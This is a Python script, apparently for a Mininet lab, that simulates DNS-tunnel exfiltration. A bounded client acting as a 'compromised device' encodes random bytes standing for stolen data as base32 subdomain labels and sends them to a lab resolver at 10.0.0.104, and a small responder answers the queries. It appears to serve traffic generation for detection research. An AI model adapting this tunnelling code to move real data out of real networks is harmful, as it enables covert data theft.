"""A DNS tunnel for the Mininet topology: the outside resolver's tiny responder, and a tunnelling client.

    serve  (on the host playing the outside resolver): UDP --port 53; every query is answered
           with its question and one record of its type (NULL or TXT) carrying a few bytes, as
           an iodine or dnscat2 server answers; anything else is answered NXDOMAIN.
    client (on a compromised device): --rate queries a second for --duration seconds, each a
           new name under --domain whose labels carry base32 of the data sent (a sequence
           number, then random bytes standing for the stolen data), type NULL or TXT.

    python scripts/traffic/dns_tunnel.py serve --bind 10.0.0.104 --duration 90
    python scripts/traffic/dns_tunnel.py client --dst 10.0.0.104 --domain t.tunnel.test --rate 10 --duration 5

Bounded: topology addresses only, at most 200 queries a second, 120 s (the responder: 900 s).
Prints one JSON line.
"""
from __future__ import annotations

import argparse
import base64
import json
import random
import socket
import struct
import sys
import threading
import time

from bounds import MAX_SERVE, Pacer, check

MAX_QUERIES_PER_S = 200
QTYPES = {"NULL": 10, "TXT": 16}


def _name(labels: list[str]) -> bytes:
    return b"".join(bytes([len(x)]) + x.encode() for x in labels) + b"\0"


def query(qid: int, labels: list[str], qtype: int) -> bytes:
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + _name(labels) + struct.pack("!HH", qtype, 1)


def answer(msg: bytes, rng: random.Random) -> bytes | None:
    if len(msg) < 17 or msg[2] & 0x80:
        return None
    end = 12
    while end < len(msg) and msg[end]:
        if msg[end] > 63:
            return None
        end += msg[end] + 1
    if end + 5 > len(msg):
        return None
    question = msg[12:end + 5]
    qtype = struct.unpack("!H", msg[end + 1:end + 3])[0]
    if qtype not in QTYPES.values():
        return msg[:2] + b"\x81\x83" + struct.pack("!HHHH", 1, 0, 0, 0) + question
    data = bytes(rng.getrandbits(8) for _ in range(32))
    rdata = bytes([len(data)]) + data if qtype == 16 else data
    record = b"\xc0\x0c" + struct.pack("!HHIH", qtype, 1, 0, len(rdata)) + rdata
    return msg[:2] + b"\x85\x80" + struct.pack("!HHHH", 1, 1, 0, 0) + question + record


def serve(args) -> dict:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((args.bind, args.port))
    sock.settimeout(0.5)
    rng = random.Random(5)
    counts = {"queries": 0, "answered": 0}
    stop = time.monotonic() + args.duration
    print(json.dumps({"ready": True}), flush=True)
    while time.monotonic() < stop:
        try:
            msg, peer = sock.recvfrom(4096)
        except TimeoutError:
            continue
        counts["queries"] += 1
        reply = answer(msg, rng)
        if reply:
            sock.sendto(reply, peer)
            counts["answered"] += 1
    return counts


def client(args) -> dict:
    rng = random.Random(7)
    qtype = QTYPES[args.qtype]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(0.5)
    counts = {"queries": 0, "answered": 0, "bytes_encoded": 0}
    lock = threading.Lock()

    def reader():
        while True:
            try:
                sock.recv(4096)
            except TimeoutError:
                if done.is_set():
                    return
                continue
            except OSError:
                return
            with lock:
                counts["answered"] += 1

    done = threading.Event()
    thread = threading.Thread(target=reader, daemon=True)
    thread.start()
    pacer = Pacer(args.rate, args.duration, time.monotonic)
    domain = args.domain.strip(".").split(".")
    while (due := pacer.due()) >= 0:
        if due == 0:
            time.sleep(0.005)
            continue
        pacer.done += 1
        data = struct.pack("!I", counts["queries"]) + bytes(rng.getrandbits(8) for _ in range(args.chunk))
        text = base64.b32encode(data).decode().rstrip("=").lower()
        labels = [text[i:i + 57] for i in range(0, len(text), 57)]
        sock.sendto(query(rng.randrange(65536), labels + domain, qtype), (args.dst, args.port))
        counts["queries"] += 1
        counts["bytes_encoded"] += len(data)
    time.sleep(0.3)
    done.set()
    thread.join(1)
    sock.close()
    return counts


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="role", required=True)
    p = sub.add_parser("serve")
    p.add_argument("--bind", required=True)
    p.add_argument("--port", type=int, default=53)
    p.add_argument("--duration", type=float, required=True)
    p = sub.add_parser("client")
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, default=53)
    p.add_argument("--domain", default="t.tunnel.test")
    p.add_argument("--qtype", choices=sorted(QTYPES), default="NULL")
    p.add_argument("--chunk", type=int, default=60, help="data bytes per query (base32 in the labels)")
    p.add_argument("--rate", type=float, required=True, help=f"queries/s, at most {MAX_QUERIES_PER_S}")
    p.add_argument("--duration", type=float, required=True)
    args = parser.parse_args()
    started_at = time.time()
    if args.role == "serve":
        check(parser, dst=args.bind, duration=args.duration, max_duration=MAX_SERVE)
        out = serve(args)
    else:
        check(parser, dst=args.dst, rate=args.rate, duration=args.duration, max_rate=MAX_QUERIES_PER_S)
        if not 1 <= args.chunk <= 120:
            parser.error("chunk must be in [1, 120] bytes")
        out = client(args)
    print(json.dumps(out | {"seconds": round(time.time() - started_at, 3), "started_at": started_at}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
